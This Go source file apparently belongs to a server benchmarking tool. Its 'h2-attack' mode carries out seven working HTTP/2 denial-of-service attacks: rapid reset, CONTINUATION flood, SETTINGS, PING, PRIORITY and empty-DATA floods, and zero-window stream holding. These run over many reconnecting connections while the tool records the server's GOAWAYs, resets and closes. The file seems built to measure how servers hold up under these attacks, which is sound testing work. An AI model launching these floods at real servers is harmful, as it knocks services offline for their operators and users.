package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// The attacker of the HTTP/2 abuse figures (load h2-attack, which h2-abuse starts: see
// h2abuse.go): the frames of each attack, its connections, and what the server did to them.

// The attacks, in the figures' order.
const (
	attackReset        = "reset"
	attackContinuation = "continuation"
	attackSettings     = "settings"
	attackPing         = "ping"
	attackPriority     = "priority"
	attackEmptyData    = "empty-data"
	attackZeroWindow   = "zero-window"
)

var attacks = []string{attackReset, attackContinuation, attackSettings, attackPing, attackPriority, attackEmptyData, attackZeroWindow}

// reads reports whether an attack reads what the server sends while it attacks: the SETTINGS and
// PING floods never do, so the server's answers to them pile up on its side.
func reads(attack string) bool { return attack != attackSettings && attack != attackPing }

// Sizes of the floods' frames.
const (
	// continuationFields header fields of continuationValue bytes each go in one CONTINUATION:
	// about 1.5 KiB of HPACK a frame, fields never indexed, so each one is new to the server.
	continuationFields = 32
	continuationValue  = 32
	// emptyDataPerStream 0-length DATA frames go on one stream before it is ended.
	emptyDataPerStream = 1000
	// floodBatch bounds the units written between two flushes, so that a reader's ACK of the
	// server's SETTINGS gets its turn at the socket.
	floodBatch = 256
)

// abuseFrames writes one attack's frames to w: the client preface, then unit after unit of a
// flood, or the zero-window streams. It keeps the attack's state (stream ids, the HPACK
// encoder, the field block under way) and counts the frames it wrote.
type abuseFrames struct {
	attack    string
	w         io.Writer
	fr        *http2.Framer
	enc       *hpack.Encoder
	hbuf      bytes.Buffer
	scheme    string
	authority string
	path      string
	next      uint32 // the next stream id
	frames    int64
	// started: the continuation flood's HEADERS has gone; field numbers its fields.
	started bool
	field   int
	// cur is the empty-DATA flood's stream and left the DATA frames it still gets.
	cur  uint32
	left int
	ping uint64
}

func newAbuseFrames(attack string, w io.Writer, scheme, authority, path string) *abuseFrames {
	a := &abuseFrames{attack: attack, w: w, fr: http2.NewFramer(w, nil), scheme: scheme, authority: authority,
		path: path, next: 1}
	a.enc = hpack.NewEncoder(&a.hbuf)
	return a
}

// preface writes the client connection preface and the client's SETTINGS: ENABLE_PUSH 0, and
// INITIAL_WINDOW_SIZE 0 for zero-window.
func (a *abuseFrames) preface() error {
	if _, err := io.WriteString(a.w, http2.ClientPreface); err != nil {
		return err
	}
	settings := []http2.Setting{{ID: http2.SettingEnablePush, Val: 0}}
	if a.attack == attackZeroWindow {
		settings = append(settings, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	}
	a.frames++
	return a.fr.WriteSettings(settings...)
}

// request encodes a GET's field block.
func (a *abuseFrames) request() []byte {
	a.hbuf.Reset()
	a.enc.WriteField(hpack.HeaderField{Name: ":method", Value: "GET"})
	a.enc.WriteField(hpack.HeaderField{Name: ":scheme", Value: a.scheme})
	a.enc.WriteField(hpack.HeaderField{Name: ":authority", Value: a.authority})
	a.enc.WriteField(hpack.HeaderField{Name: ":path", Value: a.path})
	return a.hbuf.Bytes()
}

// unit writes one unit of a flood: a HEADERS and its RST_STREAM, a CONTINUATION (the HEADERS
// first), a SETTINGS, a PING, a PRIORITY, or a 0-length DATA (its stream's HEADERS first).
func (a *abuseFrames) unit() error {
	switch a.attack {
	case attackReset:
		id := a.next
		a.next += 2
		if err := a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.request(),
			EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		a.frames += 2
		return a.fr.WriteRSTStream(id, http2.ErrCodeCancel)
	case attackContinuation:
		if !a.started {
			a.started = true
			a.frames++
			return a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.request(),
				EndStream: true, EndHeaders: false})
		}
		a.hbuf.Reset()
		value := strings.Repeat("v", continuationValue)
		for range continuationFields {
			a.field++
			a.enc.WriteField(hpack.HeaderField{Name: "x-flood-" + strconv.Itoa(a.field), Value: value, Sensitive: true})
		}
		a.frames++
		return a.fr.WriteContinuation(1, false, a.hbuf.Bytes())
	case attackSettings:
		a.frames++
		return a.fr.WriteSettings(http2.Setting{ID: http2.SettingEnablePush, Val: 0})
	case attackPing:
		a.ping++
		var data [8]byte
		binary.BigEndian.PutUint64(data[:], a.ping)
		a.frames++
		return a.fr.WritePing(false, data)
	case attackPriority:
		id := a.next
		a.next += 2
		dep := uint32(0)
		if id > 1 {
			dep = id - 2
		}
		a.frames++
		return a.fr.WritePriority(id, http2.PriorityParam{StreamDep: dep, Weight: 15})
	case attackEmptyData:
		if a.left == 0 {
			a.cur = a.next
			a.next += 2
			a.left = emptyDataPerStream
			a.frames++
			if err := a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: a.cur, BlockFragment: a.request(),
				EndStream: false, EndHeaders: true}); err != nil {
				return err
			}
		}
		a.left--
		a.frames++
		return a.fr.WriteData(a.cur, a.left == 0, nil)
	}
	return fmt.Errorf("%s is not a flood", a.attack)
}

// open writes n GETs, each on a new stream, each ending its side (the zero-window streams).
func (a *abuseFrames) open(n int) ([]uint32, error) {
	ids := make([]uint32, 0, n)
	for range n {
		id := a.next
		a.next += 2
		if err := a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.request(),
			EndStream: true, EndHeaders: true}); err != nil {
			return ids, err
		}
		a.frames++
		ids = append(ids, id)
	}
	return ids, nil
}

// h2AttackResult is what h2-attack prints.
type h2AttackResult struct {
	Mode    string  `json:"mode"`
	Attack  string  `json:"attack"`
	Conns   int     `json:"conns"`
	Seconds float64 `json:"seconds"`
	// Frames are the frames written (the preface's SETTINGS included).
	Frames int64 `json:"frames"`
	// Connections is how many connections were opened, Reconnects those of them opened after
	// the server closed an earlier one, DialErrors the attempts that failed (the dial or the
	// handshake).
	Connections int64 `json:"connections"`
	Reconnects  int64 `json:"reconnects"`
	DialErrors  int64 `json:"dial_errors"`
	// Closed counts the connections the server ended (a GOAWAY, a close, a reset), and
	// FirstCloseS is when the first of them ended, in seconds after the attack began (0: none).
	Closed      int64   `json:"closed"`
	FirstCloseS float64 `json:"first_close_s"`
	// Goaways and Rsts count the GOAWAY and RST_STREAM frames read, by code (a GOAWAY's debug
	// data after the code); the SETTINGS and PING floods read only after a connection failed.
	Goaways     int64            `json:"goaways"`
	GoawayCodes map[string]int64 `json:"goaway_codes,omitempty"`
	Rsts        int64            `json:"rsts"`
	RstCodes    map[string]int64 `json:"rst_codes,omitempty"`
	// FirstRstS and LastRstS are when the first and the last RST_STREAM came, in seconds after
	// the attack began (0: none): the zero-window streams' say whether a write timeout reset
	// them or the server did at once.
	FirstRstS float64 `json:"first_rst_s,omitempty"`
	LastRstS  float64 `json:"last_rst_s,omitempty"`
	// Responses counts the HEADERS read that began an answer, Ended the streams the server
	// ended (END_STREAM), and Held (zero-window) the streams still open at the end, neither
	// ended nor reset, on connections the server had not closed: what it still holds.
	Responses int64 `json:"responses"`
	Ended     int64 `json:"ended"`
	Opened    int64 `json:"opened"`
	Held      int64 `json:"held"`
	// FirstError is the first error that ended a connection, for the log.
	FirstError string `json:"first_error,omitempty"`
	Negotiated string `json:"negotiated,omitempty"`
}

// attackRun is one h2-attack run's shared state.
type attackRun struct {
	attack    string
	addr      string
	path      string
	scheme    string
	streams   int
	cfg       *tls.Config
	d         *dialer
	t0        time.Time
	frames    atomic.Int64
	conns     atomic.Int64
	dialErrs  atomic.Int64
	closed    atomic.Int64
	goaways   atomic.Int64
	rsts      atomic.Int64
	responses atomic.Int64
	ended     atomic.Int64
	opened    atomic.Int64
	held      atomic.Int64
	mu        sync.Mutex
	firstNs   int64    // the first close, ns after t0
	rstNs     [2]int64 // the first and the last RST_STREAM, ns after t0
	goCodes   map[string]int64
	rstCodes  map[string]int64
	firstErr  string
	neg       string
}

func (r *attackRun) count(m map[string]int64, key string) {
	r.mu.Lock()
	m[key]++
	r.mu.Unlock()
}

// serverClosed notes a connection the server ended.
func (r *attackRun) serverClosed(err error) {
	r.closed.Add(1)
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.firstNs == 0 {
		r.firstNs = max(int64(time.Since(r.t0)), 1)
	}
	if r.firstErr == "" && err != nil {
		r.firstErr = err.Error()
	}
}

// dial opens a connection, with its TLS handshake (h2 by ALPN) when there is one.
func (r *attackRun) dial() (net.Conn, error) {
	c, err := r.d.dial()
	if err != nil {
		return nil, err
	}
	if r.cfg == nil {
		return c, nil
	}
	c.SetDeadline(time.Now().Add(5 * time.Second))
	tc := tls.Client(c, r.cfg)
	if err := tc.Handshake(); err != nil {
		c.Close()
		return nil, err
	}
	if p := tc.ConnectionState().NegotiatedProtocol; p != "h2" {
		tc.Close()
		return nil, fmt.Errorf("ALPN chose %q, not h2", p)
	}
	c.SetDeadline(time.Time{})
	r.mu.Lock()
	if r.neg == "" {
		r.neg = negotiated(tc.ConnectionState()) + ", h2"
	}
	r.mu.Unlock()
	return tc, nil
}

// loop runs one attacker connection after another until ctx ends: each the attack until the
// server ends it.
func (r *attackRun) loop(ctx context.Context) {
	for ctx.Err() == nil {
		c, err := r.dial()
		if err != nil {
			if ctx.Err() == nil {
				r.dialErrs.Add(1)
				// A server that refuses connections is not to be hammered with dials alone.
				select {
				case <-ctx.Done():
				case <-time.After(10 * time.Millisecond):
				}
			}
			continue
		}
		r.conns.Add(1)
		stop := context.AfterFunc(ctx, func() { c.Close() })
		if r.attack == attackZeroWindow {
			r.zeroWindow(ctx, c)
		} else {
			r.flood(ctx, c)
		}
		stop()
		c.Close()
	}
}

// attackConn is one attacker connection's writer: the frames go through bw, under mu. A
// flood's reader does not write (the writer may be blocked in a write, holding mu, until the
// server reads, and the server may wait for the reader): it counts the ACKs owed in acks, and
// the writer sends them before its next batch.
type attackConn struct {
	c    net.Conn
	mu   sync.Mutex
	bw   *bufio.Writer
	a    *abuseFrames
	acks atomic.Int32
}

func (r *attackRun) newConn(c net.Conn, authority string) *attackConn {
	ac := &attackConn{c: c, bw: bufio.NewWriterSize(c, 32<<10)}
	ac.a = newAbuseFrames(r.attack, ac.bw, r.scheme, authority, r.path)
	return ac
}

// write runs w under the connection's lock and flushes.
func (ac *attackConn) write(w func() error) error {
	ac.mu.Lock()
	defer ac.mu.Unlock()
	err := w()
	if err == nil {
		err = ac.bw.Flush()
	}
	return err
}

// flood writes the attack's units as fast as the connection takes them, with a reader beside
// it (for the attacks that read) that counts the GOAWAYs and resets and acknowledges the
// server's SETTINGS.
func (r *attackRun) flood(ctx context.Context, c net.Conn) {
	ac := r.newConn(c, r.addr)
	var readErr atomic.Value
	done := make(chan struct{})
	if reads(r.attack) {
		go func() {
			defer close(done)
			err := r.readFrames(ac, nil)
			readErr.Store(errBox{err})
			c.Close() // the writer stops at its next write
		}()
	} else {
		close(done)
	}
	err := ac.write(ac.a.preface)
	counted := ac.a.frames
	r.frames.Add(counted)
	for err == nil && ctx.Err() == nil {
		err = ac.write(func() error {
			for ; ac.acks.Load() > 0; ac.acks.Add(-1) {
				ac.a.frames++
				if err := ac.a.fr.WriteSettingsAck(); err != nil {
					return err
				}
			}
			for k := 0; k < floodBatch && ac.bw.Buffered() < 16<<10; k++ {
				if err := ac.a.unit(); err != nil {
					return err
				}
			}
			return nil
		})
		ac.mu.Lock()
		r.frames.Add(ac.a.frames - counted)
		counted = ac.a.frames
		ac.mu.Unlock()
	}
	if ctx.Err() != nil {
		<-done
		return
	}
	if !reads(r.attack) {
		// The server ended the connection while its answers sat unread: what it wrote last may
		// still be in the socket, a GOAWAY among them. Read what is there, briefly.
		c.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
		r.readFrames(ac, nil)
	}
	<-done
	if e, ok := readErr.Load().(errBox); ok && e.err != nil {
		err = e.err
	}
	r.serverClosed(err)
}

type errBox struct{ err error }

// readFrames reads the server's frames until the connection fails: it counts GOAWAYs, resets,
// answers and ended streams, has the server's SETTINGS acknowledged (but by the SETTINGS and
// PING floods, which read only once the connection failed) and, on a zero-window connection,
// answers PINGs; it calls onFrame, if set, with each frame.
func (r *attackRun) readFrames(ac *attackConn, onFrame func(http2.Frame)) error {
	fr := http2.NewFramer(io.Discard, bufio.NewReaderSize(ac.c, 32<<10))
	fr.SetMaxReadFrameSize(1 << 24)
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			return err
		}
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			r.goaways.Add(1)
			key := f.ErrCode.String()
			if dbg := f.DebugData(); len(dbg) > 0 {
				key += " " + strconv.Quote(string(dbg[:min(len(dbg), 80)]))
			}
			r.count(r.goCodes, key)
		case *http2.RSTStreamFrame:
			r.rsts.Add(1)
			at := max(int64(time.Since(r.t0)), 1)
			r.mu.Lock()
			r.rstCodes[f.ErrCode.String()]++
			if r.rstNs[0] == 0 {
				r.rstNs[0] = at
			}
			r.rstNs[1] = at
			r.mu.Unlock()
		case *http2.HeadersFrame:
			r.responses.Add(1)
			if f.StreamEnded() {
				r.ended.Add(1)
			}
		case *http2.DataFrame:
			if f.StreamEnded() {
				r.ended.Add(1)
			}
		case *http2.SettingsFrame:
			switch {
			case f.IsAck() || !reads(r.attack):
			case r.attack == attackZeroWindow:
				r.frames.Add(1)
				ac.write(func() error { return ac.a.fr.WriteSettingsAck() })
			default:
				ac.acks.Add(1)
			}
		case *http2.PingFrame:
			if !f.IsAck() && r.attack == attackZeroWindow {
				r.frames.Add(1)
				ac.write(func() error { return ac.a.fr.WritePing(true, f.Data) })
			}
		}
		if onFrame != nil {
			onFrame(f)
		}
	}
}

// zeroWindow opens the connection's streams with no window to answer them in, then reads until
// the server ends the connection or the attack ends; the streams neither ended nor reset then
// are the server's to hold.
func (r *attackRun) zeroWindow(ctx context.Context, c net.Conn) {
	ac := r.newConn(c, r.addr)
	// The server's SETTINGS first: they say how many streams it takes.
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if err := ac.write(ac.a.preface); err != nil {
		r.serverClosed(err)
		return
	}
	r.frames.Add(1)
	br := bufio.NewReaderSize(c, 32<<10)
	first := http2.NewFramer(io.Discard, br)
	f, err := first.ReadFrame()
	if err != nil {
		if ctx.Err() == nil {
			r.serverClosed(err)
		}
		return
	}
	sf, ok := f.(*http2.SettingsFrame)
	if !ok || sf.IsAck() {
		r.serverClosed(fmt.Errorf("the server's first frame is %v, not its SETTINGS", f.Header().Type))
		return
	}
	n := r.streams
	if v, ok := sf.Value(http2.SettingMaxConcurrentStreams); ok && int(v) < n {
		n = int(v)
	}
	c.SetReadDeadline(time.Time{})
	var ids []uint32
	err = ac.write(func() error {
		if err := ac.a.fr.WriteSettingsAck(); err != nil {
			return err
		}
		var err error
		ids, err = ac.a.open(n)
		return err
	})
	r.frames.Add(int64(1 + len(ids)))
	r.opened.Add(int64(len(ids)))
	if err != nil {
		if ctx.Err() == nil {
			r.serverClosed(err)
		}
		return
	}
	open := make(map[uint32]bool, len(ids))
	for _, id := range ids {
		open[id] = true
	}
	// The rest of the connection's input goes through the same reader: br may hold frames
	// that came with the server's SETTINGS.
	ac.c = readerConn{Conn: c, r: br}
	err = r.readFrames(ac, func(f http2.Frame) {
		switch f := f.(type) {
		case *http2.RSTStreamFrame:
			delete(open, f.StreamID)
		case *http2.HeadersFrame:
			if f.StreamEnded() {
				delete(open, f.StreamID)
			}
		case *http2.DataFrame:
			if f.StreamEnded() {
				delete(open, f.StreamID)
			}
		}
	})
	if ctx.Err() != nil {
		// The attack's end closed the connection: what was still open, the server held.
		r.held.Add(int64(len(open)))
		return
	}
	r.serverClosed(err)
}

// readerConn reads through a bufio.Reader that may hold the connection's first bytes.
type readerConn struct {
	net.Conn
	r *bufio.Reader
}

func (c readerConn) Read(p []byte) (int, error) { return c.r.Read(p) }

// runH2Attack is the attacker, h2-attack: -conns connections attacking until SIGTERM (or -d).
func runH2Attack(ctx context.Context, args []string) (any, error) {
	var (
		cf      abuseFlags
		nice    int
		timeout time.Duration
	)
	fs := flag.NewFlagSet("h2-attack", flag.ExitOnError)
	cf.register(fs)
	fs.IntVar(&nice, "nice", 0, "niceness the attacker runs at")
	fs.DurationVar(&timeout, "d", 30*time.Second, "the attack's longest run (h2-abuse ends it before with SIGTERM)")
	fs.Parse(args)
	if !slices.Contains(attacks, cf.attack) {
		return nil, fmt.Errorf("-attack %q: one of %s", cf.attack, strings.Join(attacks, ", "))
	}
	if nice != 0 {
		if err := renice(nice); err != nil {
			return nil, err
		}
	}
	cfg, scheme, err := h2TLS(&cf.tls)
	if err != nil {
		return nil, err
	}
	d, err := newDialer(cf.addr, cf.conns)
	if err != nil {
		return nil, err
	}
	r := &attackRun{attack: cf.attack, addr: cf.addr, path: cf.attackPath, scheme: scheme, streams: cf.streams,
		cfg: cfg, d: d, goCodes: map[string]int64{}, rstCodes: map[string]int64{}}
	ctx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()
	r.t0 = time.Now()
	var wg sync.WaitGroup
	for range cf.conns {
		wg.Go(func() { r.loop(ctx) })
	}
	wg.Wait()
	res := &h2AttackResult{Mode: "h2-attack", Attack: cf.attack, Conns: cf.conns, Seconds: time.Since(r.t0).Seconds(),
		Frames: r.frames.Load(), Connections: r.conns.Load(), DialErrors: r.dialErrs.Load(),
		Closed: r.closed.Load(), Goaways: r.goaways.Load(), Rsts: r.rsts.Load(), Responses: r.responses.Load(),
		Ended: r.ended.Load(), Opened: r.opened.Load(), Held: r.held.Load(), FirstError: r.firstErr, Negotiated: r.neg}
	res.Reconnects = max(res.Connections-int64(cf.conns), 0)
	if r.firstNs > 0 {
		res.FirstCloseS = float64(r.firstNs) / 1e9
	}
	res.FirstRstS, res.LastRstS = float64(r.rstNs[0])/1e9, float64(r.rstNs[1])/1e9
	if len(r.goCodes) > 0 {
		res.GoawayCodes = r.goCodes
	}
	if len(r.rstCodes) > 0 {
		res.RstCodes = r.rstCodes
	}
	return res, nil
}

// renice lowers the priority of every thread of this process: on Linux a niceness is a
// thread's, and the threads the Go runtime starts later inherit it from the one that starts
// them, all of which have it by then.
func renice(nice int) error {
	tasks, err := os.ReadDir("/proc/self/task")
	if err != nil {
		return err
	}
	for _, t := range tasks {
		tid, err := strconv.Atoi(t.Name())
		if err != nil {
			continue
		}
		if err := syscall.Setpriority(syscall.PRIO_PROCESS, tid, nice); err != nil {
			return fmt.Errorf("setpriority %d: %w", nice, err)
		}
	}
	return nil
}
